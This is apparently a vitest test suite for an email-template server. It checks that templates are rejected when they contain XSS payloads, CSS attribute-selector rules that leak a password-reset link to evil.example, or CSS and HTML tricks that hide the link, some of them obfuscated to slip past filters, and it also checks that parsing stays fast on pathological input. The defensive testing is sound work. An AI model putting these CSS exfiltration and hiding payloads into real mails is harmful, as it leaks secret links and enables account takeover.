import { beforeAll, describe, expect, test } from 'vitest';
import { findingsIn } from '../../../server/mail/html-findings.ts';
import { cpuTimeOf } from '../../../test/cpu-time.ts';
import { type Call, useTestApp } from '../../../test/harness.ts';
import { XSS_PAYLOADS } from '../../../test/hostile/hostile-html.ts';
import { builtInTemplate } from './built-in-templates.ts';
import { secretFault } from './secret-mail.ts';

const app = useTestApp();
const OWN = 'somebody@example.org';
let call: Call;
beforeAll(async () => {
  call = await app().as({ permissions: ['content'], email: OWN });
});

const KEY = { template: 'password_reset', program: 0, language: 'en' };

test('there are a hundred at least, each once', () => {
  expect(new Set(XSS_PAYLOADS).size).toBe(XSS_PAYLOADS.length);
  expect(XSS_PAYLOADS.length).toBeGreaterThanOrEqual(100);
});

describe('what wants to run or load by itself', () => {
  test.each(XSS_PAYLOADS)('%s', async (payload) => {
    const text = `<p>one</p>\n<div>\n${payload}`;
    const { status, body } = await call('POST', 'template', { ...KEY, subject: 'x', text });
    expect([status, body.errors?.[0].path]).toEqual([400, 'text']);
    expect(body.message).toMatch(/^Line [345]: /);
    const tried = await call('POST', 'template/test', { subject: 'x', text, email: OWN });
    expect(tried.status).toBe(400);
  });

  test('is neither kept nor sent', async () => {
    const { everything: db } = app().platform.database;
    expect(await db.selectFrom('email_templates').select('id').execute()).toEqual([]);
    expect(await db.selectFrom('mails').select('id').execute()).toEqual([]);
  });
});

describe('a style of a mail with a secret link', () => {
  const LOADS = [
    '[href*=ab] { background: url(https://evil.example/ab) }',
    '@media all { [href*=ab] { --ab: , url("https://evil.example/ab") } }',
    '@font-face { font-family: x; src: url(https://evil.example/x); unicode-range: U+41 }',
    'a { background: image-set("https://evil.example/x" 1x) }',
    'a { background: u\\72l(https://evil.example/x) }',
    'a { content: attr(href) }',
  ];
  const save = (template: string, style: string) =>
    call('POST', 'template', {
      ...KEY,
      template,
      program: 0,
      subject: 'x',
      text: `<html><head><style>${style}</style></head><body><p>::[[content]]::</p></body></html>`,
    });

  test.each(LOADS)('loads nothing: %s', async (style) => {
    const { status, body } = await save('password_reset', style);
    expect([status, body.errors?.[0].path]).toEqual([400, 'text']);
  });

  const HIDES = [
    'display: none',
    'display: table-column',
    'visibility: hidden',
    'opacity: 0',
    'font-size: 0',
    'font-size: 1px',
    'font-size: 50%',
    'font: 0/0 x',
    'font: 2px/1 serif',
    'line-height: 0',
    'line-height: .1',
    'width: 0; overflow: hidden',
    'width: 1px',
    'height: 0',
    'max-height: 0',
    'transform: scale(0)',
    'zoom: 0',
    'clip: rect(0 0 0 0)',
    'clip-path: inset(50%)',
    'position: absolute',
    'position: relative; z-index: 9',
    'left: -999px',
    'float: left',
    'margin-left: -9999px',
    'margin: 0 -9999px',
    'margin: 9999em',
    'text-indent: -9999px',
    'letter-spacing: -9px',
    'color: transparent',
    'color: #fff0',
    'color: rgba(0, 0, 0, 0)',
    '-webkit-text-fill-color: transparent',
    'mso-hide: all',
    'content-visibility: hidden',
    'color: red; DISPLAY : NONE !important',
    'dis/**/play: none',
    "font-family: '/*'; display: none; x: '*/'",
    "font-family: 'a; b'; display: none",
    'disp\\6cay: none',
    'all: unset',
    '--x: none',
    'color: red; & { display: none }',
  ];

  test.each(HIDES)('hides no link: %s', async (style) => {
    const inside = await save('password_reset', `@media all { p { ${style} } }`);
    expect([inside.status, inside.body.errors?.[0].path]).toEqual([400, 'text']);
    const text = `<p>x</p>\n<p style="${style}">::[[content]]::</p>`;
    const { status, body } = await call('POST', 'template', { ...KEY, subject: 'x', text });
    expect([status, body.message]).toEqual([400, expect.stringMatching(/^Line 2: style: /)]);
  });

  test.each([
    '<p hidden>::[[content]]::</p>',
    '<p aria-hidden="true">::[[content]]::</p>',
    '<small>::[[content]]::</small>',
    '<h6>::[[content]]::</h6>',
    '<ruby><rp>::[[content]]::</rp></ruby>',
    '<table><tr><td rowspan="2">::[[content]]::</td></tr></table>',
    '<style>p { color: red</style><p>::[[content]]::</p>',
    '<style>@supports (color: red) { p { color: red } }</style><p>::[[content]]::</p>',
    '<style>p { color: red } } p { display: none }</style><p>::[[content]]::</p>',
  ])('nor does what stands around it: %s', async (text) => {
    expect((await call('POST', 'template', { ...KEY, subject: 'x', text })).status).toBe(400);
    expect(
      (await call('POST', 'template', { ...KEY, template: 'account_cancelled', subject: 'x', text })).status,
    ).toBe(200);
  });

  test.each(['{', '}', '/*', '* /', '"', 'a:', ';', 'a{', '@media', '0 ', "''", ', a', '#', '1 1/'])(
    'is judged no slower than its length asks for: %s',
    (piece) => {
      const judge = () => {
        for (const value of [piece.repeat(200_000 / piece.length), `font:1${piece.repeat(50_000)}`])
          for (const name of ['style', 'other'])
            secretFault(
              name === 'style'
                ? { kind: 'attribute', tag: 'p', name, value, quoted: true, address: false }
                : { kind: 'style', value: `a{${value}` },
            );
      };
      expect(cpuTimeOf(judge)).toBeLessThan(1500);
    },
  );

  test('says how it looks as mails of builders do', async () => {
    const text = `<!doctype html><html lang="en" xmlns:o="urn:x"><head><meta charset="utf-8">
<!--[if mso]><xml><o:OfficeDocumentSettings><o:PixelsPerInch>96</o:PixelsPerInch></o:OfficeDocumentSettings></xml><![endif]-->
<style>/* it's ours */ body { margin: 0; padding: 24px 12px !important; background: #eef1f3; -webkit-text-size-adjust: 100% }
.head, td > a:hover { font: bold 16px/1.5 'Segoe UI', "微软雅黑", Helvetica, sans-serif; color: rgb(10, 20, 30) }
@media (max-width: 480px) { .head { padding: 16px 1.5em; font-size: 14px; } }</style></head>
<body style="color:#1f2933;line-height:1.6;text-align:center"><table role="presentation" align="center" width="100%" cellpadding="0"
 bgcolor="#ffffff" style="max-width: 560px; margin: 0 auto; border: 1px solid #ccc; border-radius: 8px; border-collapse: collapse">
<tr><td class="head" style="padding-top:0;font-size:20px;font-weight:600">::[[program_name]]::</td></tr></table>
<h1>New</h1><img src="https://a.example/x.png" width="10" alt="">::[[content]]::<hr></body></html>`;
    const { status, body } = await call('POST', 'template', { ...KEY, subject: 'x', text });
    expect([status, body.message]).toEqual([200, undefined]);
    await call('DELETE', `template?template=password_reset&program=0&language=en`);
    expect(findingsIn(builtInTemplate('password_reset', 'en').inlined, secretFault)).toEqual([]);
  });

  test('may say how it looks; other mails load pictures as well', async () => {
    expect(
      (await save('password_reset', 'a { color: #123456 } @media (max-width: 9em) { a { color: red } }'))
        .status,
    ).toBe(200);
    expect(
      (await save('account_cancelled', 'p { background: url(https://pictures.example/x.png) }')).status,
    ).toBe(200);
  });
});

describe('a text that would keep whoever reads it busy', () => {
  const tried = (text: string, plain?: string) =>
    call('POST', 'template/test', { subject: 'x', text, plain, email: OWN });

  test('is answered with twenty faults of many', async () => {
    const many = '::[[x]]::\n'.repeat(20_000);
    const { status, body } = await tried(many);
    expect([status, body.errors.length]).toEqual([400, 20]);
  });

  test('is refused for an address that is longer than one', async () => {
    const { status, body } = await tried(
      `<a href="::[[program_site_url]]::/${'::[[program_tag]]::'.repeat(200)}">x</a>`,
    );
    expect([status, body.message]).toEqual([400, expect.stringContaining('an address can have at most')]);
  });
});
